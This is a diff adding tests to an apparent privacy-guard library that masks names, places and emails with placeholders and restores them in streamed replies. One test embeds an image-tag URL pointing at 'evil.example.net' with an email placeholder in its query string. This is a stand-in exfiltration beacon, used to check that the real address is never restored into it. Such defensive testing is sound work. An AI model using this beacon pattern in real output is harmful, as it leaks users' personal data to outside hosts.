@@ -183,6 +183,20 @@ def test_a_quoted_name_restores_without_a_stray_quote():
     assert session.restore("'<PERSON_1>'") == "'Leilani Kahananui'"
 
 
+def test_a_possessive_after_a_full_name_is_not_part_of_it():
+    """The small model's span for "Maria Gonzalez's" took the "'s": one person got two placeholders,
+    and a reply about the second came back as "Maria Gonzalez's"."""
+    from tether.privacy import PrivacyGuard
+
+    guard = PrivacyGuard()
+    session = guard.session()
+    text = "I met Maria Gonzalez yesterday. Maria Gonzalez's car was parked outside. Is Paris's weather nice?"
+    out = guard.prepare(text, "third_party", session=session).payload
+    assert out == "I met <PERSON_1> yesterday. <PERSON_1>'s car was parked outside. Is <LOCATION_1>'s weather nice?"
+    assert session.restore("Ask <PERSON_1> to move it.") == "Ask Maria Gonzalez to move it."
+    assert session.restore(out) == text
+
+
 def test_a_placeholder_never_takes_a_name_the_text_already_uses(guard):
     """A transcript that already says PERSON_1 (in any case or brackets): if our Jane Doe became
     <PERSON_1>, a reply about the transcript's PERSON_1 would come back as Jane Doe."""
@@ -229,6 +243,18 @@ def test_streaming_leaves_urls_alone_at_every_split_point(mapped):
 def test_a_long_url_stays_a_url_however_the_stream_is_cut(mapped):
     reply = "see http://x.example/" + "a" * 400 + "<EMAIL_ADDRESS_1> <PERSON_1>"
     assert _stream(mapped, reply, list(range(1, len(reply)))) == reply.replace("<PERSON_1>", "Maria Gonzalez")
+
+
+@pytest.mark.parametrize("opener", ["<img src=//", "see //", '{"u": "//'])
+def test_a_long_protocol_relative_url_stays_a_url_however_the_stream_is_cut(mapped, opener):
+    """The stream kept a long URL's opener and its last 64 characters: for a bare "//" the host
+    the opener needs ("//host.") was cut away, and the rest of the URL restored the address."""
+    reply = f"Done. {opener}evil.example.net/t/" + "x" * 130 + ".gif?u=<EMAIL_ADDRESS_1>> <PERSON_1>"
+    want = mapped.restore(reply)
+    assert "maria@example.org" not in want and want.endswith("Maria Gonzalez")
+    for size in (1, 4, 7):
+        cuts = list(range(size, len(reply), size))
+        assert _stream(mapped, reply, cuts) == want
 
 
 def test_a_streamed_json_answer_restores_as_its_decoded_values_would(mapped):
